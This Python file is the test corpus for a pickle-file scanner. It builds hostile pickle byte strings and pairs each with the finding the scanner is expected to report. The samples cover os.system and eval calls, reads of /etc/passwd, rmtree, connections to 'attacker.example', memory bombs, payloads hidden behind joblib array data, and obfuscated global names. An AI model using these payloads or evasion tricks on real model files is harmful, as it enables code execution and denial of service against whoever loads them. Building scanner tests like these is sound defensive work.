"""Pickles that do harm when they are loaded, by each way that the format has. Nothing here is ever loaded."""

import builtins
import functools
import importlib
import operator
import os
import pickle
import shutil
import socket
import struct
import subprocess
import webbrowser
from collections.abc import Callable
from typing import Any

from anfl.inspection.codes import Code
from tests.unit.inspection.corpus.case import Case, case

_COMMAND = "true"


class Reduced:
    """Pickles as a call of ``function`` with ``arguments``."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._call


class ReducedEx(Reduced):
    """As above, by the protocol's own method."""

    def __reduce_ex__(self, protocol: Any) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._call


def reduced(function: Callable[..., Any], *arguments: Any, protocol: int = 4) -> bytes:
    return pickle.dumps(Reduced(function, *arguments), protocol=protocol)


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    encoded = value.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def named(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(name) + b"\x93"


SYSTEM = b"cos\nsystem\n"
CALL = b"(S'true'\ntR."
_HEAD = b"\x80\x04"
_ATTACK = reduced(os.system, _COMMAND)
_CLASS = b"ccollections\nOrderedDict\n"


def _wrapped(data: bytes, size: int) -> bytes:
    """A joblib array of ``size`` bytes whose data is ``data``."""
    wrapper = named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    dtype = named("numpy", "dtype") + text("u1") + b"\x85R"
    shape = b"K" + bytes([size]) + b"\x85" if size < 256 else b"J" + struct.pack("<i", size) + b"\x85"
    state = b"}(" + text("shape") + shape + text("dtype") + dtype + b"u"
    return _HEAD + wrapper + state + b"b" + data.ljust(size, b"\0") + b"."


_WRAPPER = named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
_UNLISTED = b"cattacker\nrun\n" + CALL
_U1 = named("numpy", "dtype") + text("u1") + b"\x85R"


def _state(*more: bytes, size: int = 5, dtype: bytes = _U1) -> bytes:
    """The state of a wrapper of ``size`` values, and more members."""
    shape = b"K" + bytes([size]) + b"\x85"
    known = text("order") + text("C") + text("allow_mmap") + b"\x89"
    return b"}(" + known + text("shape") + shape + text("dtype") + dtype + b"".join(more) + b"u"


def _hidden(state: bytes, *, wrapper: bytes = _WRAPPER, before: bytes = b"") -> bytes:
    """An attack behind five bytes (and those ``before`` them) of joblib's data, which are its length to all others."""
    return _HEAD + wrapper + state + b"b" + before + b"B" + struct.pack("<I", len(_UNLISTED)) + _UNLISTED + b"."


def _framed() -> bytes:
    """joblib reads an array's data from behind the frame, and goes on within it."""
    frame = _WRAPPER + _state(size=len(_UNLISTED)) + b"b" + _UNLISTED
    data = b"C" + bytes([len(_UNLISTED) - 3]) + bytes(len(_UNLISTED) - 3) + b"."
    return _HEAD + b"\x95" + struct.pack("<Q", len(frame)) + frame + data


def _resized() -> bytes:
    """A type whose state makes a value of six bytes of one of one byte."""
    state = b"(K\x03" + text("|") + b"NNNK\x06K\x01K\x00t"
    dtype = named("numpy", "dtype") + text("V1") + b"\x85R" + state + b"b"
    return _hidden(_state(size=1, dtype=dtype), before=b"N")


def _crowded() -> bytes:
    """Of many members, only the first ones are remembered here."""
    crowd = b"".join(text(f"x{number}") + b"N" for number in range(70))
    return _hidden(_state(crowd, text("shape"), b"K\x05\x85", size=0))


_JOBLIB = {
    "state-in-a-tuple": _hidden(_state() + b"N\x86"),
    "computed-state": _hidden(named("builtins", "dict") + _state() + b"\x85R"),
    "computed-key": _hidden(_state(named("builtins", "str") + text("shape") + b"\x85R", b"K\x05\x85", size=0)),
    "crowded-state": _crowded(),
    "its-own-reader": _hidden(_state(text("read"), named("builtins", "slice"), size=0)),
    "built-twice": _hidden(_state(), wrapper=_WRAPPER + b"\x94" + _state() + b"b" + bytes(5) + b"h\x00"),
    "reconstructed": _hidden(
        _state(),
        wrapper=named("copyreg", "_reconstructor")
        + named("joblib.numpy_pickle", "NumpyArrayWrapper")
        + named("builtins", "object")
        + b"N\x87R",
    ),
    "under-another-name": _hidden(
        _state(),
        wrapper=named("numpy.core.multiarray", "scalar")
        + named("numpy", "dtype")
        + text("O8")
        + b"\x85R"
        + _WRAPPER
        + b"\x86R",
    ),
}
"""Arrays that say one thing to joblib and another one to who only reads along."""


def _dtype(kind: str, *, state: bytes = b"") -> bytes:
    made = b"cnumpy\ndtype\n(S'%s'\nI00\nI01\ntR" % kind.encode()
    return made + state + b"b" if state else made


def _fields(kind: str = "O8", *, offset: int = 0, flags: int = 27, size: int = 8) -> bytes:
    """A type's state: one field."""
    field = b"(" + _dtype(kind) + b"I%d\nt" % offset
    return b"(I3\nS'|'\nN(S'f'\nt}S'f'\n" + field + b"sI%d\nI1\nI%d\nt" % (size, flags)


def _two_fields(first: str, at: int, second: str, then: int) -> bytes:
    """A type's state: two fields, the second of which is one of objects."""
    fields = b"}S'a'\n(" + _dtype(first) + b"I%d\ntsS'b'\n(" % at + _dtype(second) + b"I%d\nts" % then
    return b"(I3\nS'|'\nN(S'a'\nS'b'\nt" + fields + b"I12\nI1\nI27\nt"


def _native(module: str, name: str, state: bytes) -> bytes:
    """An object of scikit-learn's compiled code."""
    place = module.encode()
    return b"c%s\nnewObj\n(c%s\n%s\ntR" % (place, place, name.encode()) + state + b"b."


def _array(state: bytes) -> bytes:
    return b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I0\ntC\x01btR" + state + b"b."


_VALUES = b"(I1\n(I8\nt" + _dtype("u1") + b"I00\nC\x08AAAAAAAAt"
_OBJECTS = b"(I3\nS'|'\nNNNI-1\nI-1\nI63\nt"
_POINTER = b"C\x08AAAAAAAA"
"""Eight bytes."""
_FROM_BYTES = b"cnumpy.core.numeric\n_frombuffer\n("
_PLAIN_STATE = b"(I3\nS'|'\nNNNI8\nI1\nI0\nt"

_FORGED = {
    "buffer": b"cnumpy\nndarray\n((I1\nt" + _dtype("O8") + _POINTER + b"tR.",
    "buffer-of-a-class": b"cnumpy\nndarray\n((I1\ntcbuiltins\nobject\n" + _POINTER + b"t\x81.",
    "buffer-keyword": b"cnumpy\nndarray\n((I1\ntt}(S'dtype'\nS'O'\nS'buffer'\n" + _POINTER + b"u\x92.",
    "uncounted": _dtype("V8", state=_fields(flags=0)) + b".",
    "not-pickled": _dtype("V8", state=_fields(flags=1)) + b".",
    "fields-of-a-number": _dtype("f8", state=_fields(flags=0, size=-1)) + b".",
    "beyond": _dtype("V8", state=_fields("f8", offset=1_000_000, flags=0)) + b".",
    "before": _dtype("V8", state=_fields("f8", offset=-8, flags=0)) + b".",
    "repeated": _dtype("V8", state=b"(I3\nS'|'\n(" + _dtype("f8") + b"(I9\nttNNI8\nI1\nI0\nt") + b".",
    "alignment": _dtype("V8", state=_PLAIN_STATE.replace(b"I1\n", b"I0\n")) + b".",
    "afterwards": _dtype("V8") + b"p0\n" + _FROM_BYTES + _POINTER + b"g0\n(I1\ntS'C'\ntR0" + _fields() + b"b.",
    "duplicated": _dtype("V8") + b"2" + _POINTER + b"\x860" + _fields() + b"b.",
    "overlapping": _dtype("V12", state=_two_fields("f8", 0, "O8", 4)) + b".",
    "overlapping-objects": _dtype("V12", state=_two_fields("O8", 0, "O8", 0)) + b".",
    "metric-without-members": _native("sklearn.metrics._dist_metrics", "EuclideanDistance64", b")"),
    "metric-of-no-function": _native("sklearn.metrics._dist_metrics", "PyFuncDistance64", b"(NNNt"),
    "metric-of-a-class": b"csklearn.metrics._dist_metrics\nEuclideanDistance64\n)\x81(NNtb.",
    "metric-of-what-is-made": _native(
        "sklearn.metrics._dist_metrics", "EuclideanDistance64", b"cbuiltins\ntuple\n(]tR"
    ),
    "tree-without-the-last": _native("sklearn.neighbors._kd_tree", "KDTree64", b"(" + b"N" * 12 + b"t"),
    "ball-tree-of-a-list": _native("sklearn.neighbors._ball_tree", "BallTree64", b"]"),
    "without-unit": _dtype("M8[s]", state=_PLAIN_STATE) + b".",
    "again": _dtype("V8", state=_PLAIN_STATE) + _fields() + b"b.",
    "of-too-few": _array(b"(I1\n(I1000\nt" + _dtype("O8", state=_OBJECTS) + b"I00\n(I1\nlt"),
    "of-too-few-appended": _array(b"(I1\n(I1000\nt" + _dtype("O8", state=_OBJECTS) + b"I00\n](I1\nI2\neI3\nat"),
    "of-what-is-made": _array(b"(I1\n(I1000\nt" + _dtype("O8", state=_OBJECTS) + b"I00\ncbuiltins\nlist\n((I1\nttRt"),
    "again-of-values": _array(_VALUES)[:-1] + _VALUES + b"b.",
    "looked-at-before": b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I64\ntC\x01btRp0\n"
    + _FROM_BYTES
    + b"g0\nS'u1'\n(I64\ntS'C'\ntR0"
    + _VALUES
    + b"b.",
    "of-untold-shape": _array(b"(I1\ncbuiltins\ntuple\n(]tR" + _dtype("O8", state=_OBJECTS) + b"I00\n(I1\nlt"),
    "of-type": b"cnumpy\ndtype\n(" + _dtype("V8") + b"tR" + _fields() + b"b.",
}
"""Arrays whose bytes would be taken for objects, or that read beyond them."""
_LEVELS = range(1, 50)
_NESTED = b")p0\n" + b"".join(b"0(g%d\ng%d\ntp%d\n" % (level - 1, level - 1, level) for level in _LEVELS)
_DOUBLED = {
    "types": _dtype("V8")
    + b"p0\n"
    + b"".join(
        b"0%s(I3\nS'|'\nN(S'a'\nS'b'\nt}S'a'\n(g%d\nI0\ntsS'b'\n(g%d\nI0\ntsI8\nI1\nI0\ntbp%d\n"
        % (_dtype("V8"), level - 1, level - 1, level)
        for level in _LEVELS
    ),
    "members": b"}p0\n"
    + b"".join(b"0}S'a'\ng%d\nsS'b'\ng%d\nsp%d\n" % (level - 1, level - 1, level) for level in _LEVELS)
    + b"0ccollections\nOrderedDict\n(g49\ntR",
    "keys": _NESTED + b"0}g49\nNs",
}
"""Values that hold the one before twice: to look at all that they hold is to look at 2**49 values."""
_MANY = b"".join(b"ca%d\nb\n0" % number for number in range(200))
_LONG = b"B" + struct.pack("<I", 100_000) + bytes(100_000) + b"0" + SYSTEM + CALL
"""An attack behind more data than anybody peeks at."""

CASES: list[Case] = [
    *(
        case(f"reduce-{name}-{protocol}.pkl", reduced(function, *arguments, protocol=protocol), Code.DANGEROUS_GLOBAL)
        for protocol in range(6)
        for name, function, arguments in (
            ("system", os.system, (_COMMAND,)),
            ("eval", builtins.eval, ("1",)),
            ("exec", builtins.exec, ("1",)),
            ("popen", subprocess.Popen, ((_COMMAND,),)),
            ("import", importlib.import_module, ("os",)),
            ("dunder-import", builtins.__import__, ("os",)),
            ("getattr", getattr, (Reduced(importlib.import_module, "os"), "system")),
            ("open", open, ("/etc/passwd",)),
            ("rmtree", shutil.rmtree, ("/nowhere",)),
            ("loads", pickle.loads, (b"N.",)),
            ("compile", compile, ("1", "x", "eval")),
            ("browser", webbrowser.open, ("http://attacker.example",)),
            ("socket", socket.create_connection, (("attacker.example", 80),)),
        )
    ),
    case("attrgetter.pkl", reduced(operator.attrgetter, "system"), Code.DANGEROUS_GLOBAL),
    case("partial.pkl", pickle.dumps(functools.partial(os.system, _COMMAND)), Code.DANGEROUS_GLOBAL),
    case("reduce-ex.pkl", pickle.dumps(ReducedEx(os.system, _COMMAND)), Code.DANGEROUS_GLOBAL),
    case("runpy.pkl", b"crunpy\n_run_code\n(S'1'\n}tR.", Code.DANGEROUS_GLOBAL),
    case("posix.pkl", b"cposix\nsystem\n" + CALL, Code.DANGEROUS_GLOBAL),
    case("python2.pkl", b"c__builtin__\neval\n" + CALL, Code.DANGEROUS_GLOBAL),
    case("commands.pkl", b"ccommands\ngetoutput\n" + CALL, Code.DANGEROUS_GLOBAL),
    case("pip.pkl", b"cpip\nmain\n((lp0\nS'install'\natR.", Code.DANGEROUS_GLOBAL),
    case("torch-hub.pkl", b"ctorch.hub\nload\n" + CALL, Code.DANGEROUS_GLOBAL),
    case("unknown-library.pkl", b"cattacker\nrun\n" + CALL, Code.UNLISTED_GLOBAL),
    # Opcodes that call
    case("inst.pkl", b"(S'true'\nios\nsystem\n.", Code.DANGEROUS_GLOBAL),
    case("obj.pkl", b"(" + SYSTEM + b"S'true'\no.", Code.DANGEROUS_GLOBAL),
    case("newobj.pkl", _HEAD + named("os", "system") + text(_COMMAND) + b"\x85\x81.", Code.DANGEROUS_GLOBAL),
    case("newobj-ex.pkl", _HEAD + named("os", "system") + text(_COMMAND) + b"\x85}\x92.", Code.DANGEROUS_GLOBAL),
    case("never-called.pkl", SYSTEM + b"0N.", Code.DANGEROUS_GLOBAL),
    case("called-then-broken.pkl", SYSTEM + b"(S'true'\ntR\xff", Code.DANGEROUS_GLOBAL, Code.MALFORMED),
    case("called-then-cut.pkl", _ATTACK[:-1], Code.DANGEROUS_GLOBAL, Code.TRUNCATED),
    # What BUILD and its relatives change
    case("setstate.pkl", _CLASS + b"}(S'__setstate__'\n" + SYSTEM + b"ub.", Code.DANGEROUS_GLOBAL, Code.PATCHED_GLOBAL),
    case("patched-class.pkl", _CLASS + b"}(S'update'\ncbuiltins\nlist\nub.", Code.PATCHED_GLOBAL),
    case("item-of-global.pkl", _CLASS + b"S'a'\nNs.", Code.PATCHED_GLOBAL),
    case("appended-to-global.pkl", _CLASS + b"Na.", Code.PATCHED_GLOBAL),
    case("called-instance.pkl", _CLASS + b")R)R.", Code.INDIRECT_CALL),
    case("called-list-item.pkl", b"]ccollections\nOrderedDict\na)R.", Code.INDIRECT_CALL),
    # Names that are not what they look like
    case(
        "computed-name.pkl",
        _HEAD + text("os") + b"cbuiltins\nstr\n" + text("system") + b"\x85R\x93" + CALL,
        Code.OBSCURED_GLOBAL,
    ),
    case("escaped-string.pkl", b"S'o\\x73'\nS'sys\\x74em'\n\x93" + CALL, Code.DANGEROUS_GLOBAL),
    case("escaped-unicode.pkl", b"V\\u006fs\nVsyste\\u006d\n\x93" + CALL, Code.DANGEROUS_GLOBAL),
    case(
        "long-name.pkl", _HEAD + b"X" + struct.pack("<I", 600) + b"o" * 600 + text("x") + b"\x93.", Code.OBSCURED_GLOBAL
    ),
    case("byte-string-name.pkl", b"T\x02\0\0\0osU\x06system\x93" + CALL, Code.DANGEROUS_GLOBAL),
    case("dotted-name.pkl", _HEAD + named("collections", "abc.sys.modules") + b".", Code.UNLISTED_GLOBAL),
    case("empty-name.pkl", b"c\n\n.", Code.OBSCURED_GLOBAL),
    case("extension.pkl", _HEAD + b"\x82\x01.", Code.OBSCURED_GLOBAL),
    case("extension4.pkl", _HEAD + b"\x84\x01\0\0\0.", Code.OBSCURED_GLOBAL),
    # Memo
    case(
        "memo.pkl",
        _HEAD + text("system") + b"\x940" + text("os") + b"\x940h\x01h\x00\x93" + CALL,
        Code.DANGEROUS_GLOBAL,
    ),
    case(
        "memo-overwritten.pkl",
        _HEAD + text("x") + b"q\x050" + text("os") + b"q\x050h\x05" + text("system") + b"\x93" + CALL,
        Code.DANGEROUS_GLOBAL,
    ),
    case("memo-of-function.pkl", SYSTEM + b"p7\n0g7\n" + CALL, Code.DANGEROUS_GLOBAL),
    case("memo-never-set.pkl", _HEAD + b"h\x09.", Code.MALFORMED),
    case("memo-far.pkl", b"Nr\xff\xff\xff\x7f.", Code.MEMORY_BOMB),
    case("bytes-bomb.pkl", b"cbuiltins\nbytearray\n(L99999999999L\ntR.", Code.MEMORY_BOMB),
    case("array-bomb.pkl", b"cnumpy\nndarray\n((I99999999\nI99999999\nttR.", Code.MEMORY_BOMB),
    *(
        case(f"range-bomb-{number}.pkl", attack, Code.MEMORY_BOMB)
        for number, attack in enumerate(
            (
                b"cbuiltins\nlist\n(cbuiltins\nrange\n(I9999999999\ntRtR.",
                b"c__builtin__\nset\n(c__builtin__\nxrange\n(I9999999999\ntRtR.",
                b"ccollections\nCounter\n(cbuiltins\nrange\n(I9\nI-9999999999\nI-3\ntRtR.",
                b"cbuiltins\ntuple\n(cbuiltins\nrange\n(L" + b"9" * 30 + b"L\ntRt\x81.",
                b"ccollections\ndeque\ncbuiltins\nrange\n(I0\nI9999999999\ntR\x85}\x92.",
            )
        )
    ),
    case("booster-file.pkl", b"clightgbm.basic\nBooster\n(NNS'/etc/passwd'\ntR.", Code.UNLISTED_GLOBAL),
    case("booster-file-newobj.pkl", b"cxgboost.sklearn\nBooster\n(NNS'/x'\nt\x81.", Code.UNLISTED_GLOBAL),
    case(
        "booster-keyword.pkl",
        b"clightgbm.basic\nBooster\n)}(S'model_file'\nS'/x'\nu\x92.",
        Code.UNLISTED_GLOBAL,
    ),
    case("bytes-keyword-bomb.pkl", b"cbuiltins\nbytes\n)}(S'source'\nL99999999999L\nu\x92.", Code.MEMORY_BOMB),
    # More than one pickle, or something else beside it
    case("second.pkl", pickle.dumps(1) + _ATTACK, Code.DANGEROUS_GLOBAL),
    case("second-protocol0.pkl", pickle.dumps(1, protocol=0) + SYSTEM + CALL, Code.DANGEROUS_GLOBAL),
    case("trailing.pkl", pickle.dumps(1) + b"\xff\xff trailing", Code.TRAILING_DATA),
    case("persistent.pkl", _HEAD + text("file") + b"Q.", Code.PERSISTENT_ID),
    case("buffers.pkl", b"\x80\x05\x97.", Code.MALFORMED),
    case("protocol9.pkl", b"\x80\x09N.", Code.MALFORMED),
    case("not-a-pickle.pkl", b"just a text\n", Code.MALFORMED),
    case("truncated.pkl", pickle.dumps(list(range(1000)))[:500], Code.TRUNCATED),
    case("frame-first", b"\x95" + struct.pack("<Q", 40) + SYSTEM + CALL, Code.DANGEROUS_GLOBAL),
    case("no-extension", SYSTEM + CALL, Code.DANGEROUS_GLOBAL),
    # joblib: data that is skipped by one loader and run by another
    case("joblib-data.joblib", _wrapped(SYSTEM + CALL, 64), Code.DANGEROUS_GLOBAL),
    case("joblib-long.joblib", _wrapped(_LONG, 200_000), Code.DANGEROUS_GLOBAL),
    case("joblib-behind.joblib", _wrapped(bytes(8), 8)[:-1] + SYSTEM + CALL, Code.DANGEROUS_GLOBAL),
    case("joblib-cut.joblib", _wrapped(bytes(8), 64)[:-30], Code.TRUNCATED),
    case("joblib-unlisted.joblib", _wrapped(_UNLISTED, 64), Code.UNLISTED_GLOBAL),
    case("joblib-framed.joblib", _framed(), Code.UNREADABLE_ARRAY, Code.UNLISTED_GLOBAL),
    *(case(f"joblib-{name}.joblib", content, Code.UNREADABLE_ARRAY) for name, content in _JOBLIB.items()),
    case("joblib-resized.joblib", _resized(), Code.UNREADABLE_ARRAY, Code.FORGED_ARRAY),
    # What looks like a text, and is read by a loader that is less strict
    *(
        case(f"text-{name}.bin", before + SYSTEM + CALL, Code.DANGEROUS_GLOBAL)
        for name, before in (
            ("hexadecimal", b"I0x10\n0"),
            ("long-hexadecimal", b"L0x10L\n0"),
            ("blank-in-memo", b"Np 1\n0"),
            ("long-line", b"V" + b"a" * 70_000 + b"\n0"),
        )
    ),
    case("text-called-then-broken.bin", _UNLISTED[:-1] + b" is all", Code.UNLISTED_GLOBAL, Code.MALFORMED),
    case("many-before.pkl", _MANY + SYSTEM + CALL, Code.UNLISTED_GLOBAL, Code.DANGEROUS_GLOBAL),
    # What estimators' modules import for themselves
    *(
        case(f"borrowed-{name}.pkl", f"c{module}\n{name}\n".encode() + b"(S'x'\ntR.", Code.UNLISTED_GLOBAL)
        for module, name in (
            ("xgboost.sklearn", "DMatrix"),
            ("lightgbm.sklearn", "Dataset"),
            ("sklearn.ensemble._forest", "Parallel"),
            ("sklearn.cluster._kmeans", "ABCMeta"),
            ("sklearn.pipeline.tests.test_pipeline", "Mock"),
        )
    ),
    *(case(f"forged-{name}.pkl", content, Code.FORGED_ARRAY) for name, content in _FORGED.items()),
    *(
        case(f"doubled-{name}.pkl", content + b"0" + SYSTEM + CALL, Code.DANGEROUS_GLOBAL)
        for name, content in _DOUBLED.items()
    ),
    case(
        "doubled-names.pkl",
        _NESTED + b"0" + _dtype("V8") + b"(I3\nS'|'\nN(g49\nt}S'a'\n(NtsI8\nI1\nI0\ntb0" + SYSTEM + CALL,
        Code.DANGEROUS_GLOBAL,
        Code.FORGED_ARRAY,
    ),
    # Sizes that are not told as plain numbers
    *(
        case(f"size-{name}.pkl", attack, Code.MEMORY_BOMB)
        for name, attack in (
            ("long", b"cbuiltins\nbytes\n\x8b\x05\0\0\0" + (1 << 36).to_bytes(5, "little") + b"\x85R."),
            ("one-dimension", b"cnumpy\nndarray\n(I9999999999\ntR."),
            ("void", b"cnumpy\nvoid\n(I2147483647\ntR."),
            ("type", b"cnumpy\nndarray\n((I1\ntcnumpy\ndtype\n(S'V2147483647'\ntRtR."),
            ("tensor", b"ctorch\nTensor\n(I99999999999\ntR."),
            ("dimensions", b"ctorch\nTensor\n(I8000\nI8000\nI8000\ntR."),
            ("scalar", b"cnumpy.core.multiarray\nscalar\n(cnumpy\ndtype\n(S'V2000000000'\ntRtR."),
            ("sparse", b"cscipy.sparse._csr\ncsr_matrix\n((L99999999999L\nI1\nttR."),
            ("reconstructed", b"ccopyreg\n_reconstructor\n(cbuiltins\nbytes\ncbuiltins\nbytes\nL99999999999L\ntR."),
            ("of-python-2", b"ccopy_reg\n_reconstructor\n(c__builtin__\nlist\nc__builtin__\nbytes\nL99999999999L\ntR."),
            ("index", b"cpandas\nSeries\n(I0\ncpandas\nRangeIndex\n(L99999999999L\ntRtR."),
            (
                "made-index",
                b"cbuiltins\nlist\n(cpandas.core.indexes.base\n_new_Index\n"
                b"(cpandas\nRangeIndex\n}(S'start'\nI0\nS'stop'\nL99999999999L\nS'step'\nI1\nutRtR.",
            ),
            (
                "member",
                b"cpandas.core.indexes.base\n_new_Index\n(cpandas\nIndex\n}S'data'\ncbuiltins\nrange\n(I9999999999\ntRstR.",
            ),
        )
    ),
    *(
        case(f"computed-{name}.pkl", attack, Code.INDIRECT_CALL)
        for name, attack in (
            ("size", b"cbuiltins\nbytes\n(cbuiltins\nint\n(S'9999999999'\ntRtR."),
            ("arguments", b"cbuiltins\nbytes\ncbuiltins\ntuple\n](L99999999999L\ne\x85RR."),
            ("shape", b"cnumpy\nndarray\n](I9999999999\ne\x85R."),
            ("fraction", b"cfractions\nFraction\n(S'1e999999999'\ntR."),
            ("decimal", b"cbuiltins\nint\n(cdecimal\nDecimal\n(S'1e999999999'\ntRtR."),
            ("text", b"cbuiltins\nstr\n(]tR."),
            ("class", b"cpandas.core.indexes.base\n_new_Index\n(cbuiltins\nbytes\n}S'source'\nL99999999999L\nstR."),
            ("array", b"cpandas.core.indexes.base\n_new_Index\n(cpandas.arrays\nStringArray\n}tR."),
            ("members", b"cpandas.core.indexes.base\n_new_Index\n(cpandas\nIndex\n]tR."),
            ("base", b"ccopyreg\n_reconstructor\n(cnumpy\nndarray\ncnumpy\nndarray\n(L99999999999L\nttR."),
            ("reconstruction", b"ccopyreg\n_reconstructor\n(cbuiltins\nbytes\n]I9\ntR."),
            ("generator", b"cnumpy.random._pickle\n__generator_ctor\n(L99999999999L\ncbuiltins\nbytes\ntR."),
            ("encoding", b"c_codecs\nencode\n(c_codecs\nencode\n(S'ab'\nS'hex'\ntRS'hex'\ntR."),
            (
                "scalar",
                b"cnumpy.core.multiarray\nscalar\n(cnumpy\ndtype\n(S'O8'\ntRccollections\nOrderedDict\ntR.",
            ),
        )
    ),
]
